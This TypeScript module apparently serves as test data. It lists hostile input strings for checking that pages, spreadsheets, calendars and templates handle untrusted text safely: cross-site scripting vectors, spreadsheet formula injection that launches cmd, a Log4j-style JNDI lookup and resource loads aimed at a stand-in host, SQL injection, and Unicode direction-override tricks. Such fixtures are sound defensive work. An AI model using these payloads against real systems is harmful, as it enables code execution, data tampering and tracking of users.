/** Where nothing of ours is: a browser that asks for it was led there by a text. */
export const FOREIGN = 'https://elders.example';

/**
 * Texts that a page, a spreadsheet, a calendar, a mail or a template could take for more than what somebody wrote. What of
 * them would run calls `ran`, a function of the page that it runs in.
 */
export const hostileTexts = [
  `<script>ran(1)</script>`,
  `<img src=x onerror=ran(2)>`,
  `"><svg onload="ran(3)"><animate onbegin=ran(3)>`,
  `'-ran(4)-' onfocus=ran(4) autofocus x='`,
  `<a href="javascript:ran(5)">klik</a> [klik](javascript:ran(5))`,
  `</title></style></textarea><script>ran(6)</script>`,
  `<iframe srcdoc="<script>parent.ran(7)</script>"></iframe>`,
  `<math><mtext><mglyph><style><img src onerror=ran(8)>`,
  `{{constructor.constructor('ran(9)')()}} \${ran(9)} {@html ran(9)}`,
  `<img src=${FOREIGN}/pixel.png><link rel=stylesheet href=${FOREIGN}/x.css>`,
  `![](${FOREIGN}/pixel.png) <style>@import '${FOREIGN}/x.css'</style>`,
  `=HYPERLINK("${FOREIGN}","klik")`,
  `+31 6 =cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `\r=1+1`,
  `regel\r\nATTENDEE:mailto:ander@elders.example\r\nEND:VEVENT`,
  `'; DROP TABLE team; -- %s \\x \${jndi:ldap://elders.example}`,
  `Eén coördinator, ’s avonds: \u{202E}txt.exe\u{202C} \u{2066}rechts\u{2069} a\u{200B}b \u{7}`,
] as const;
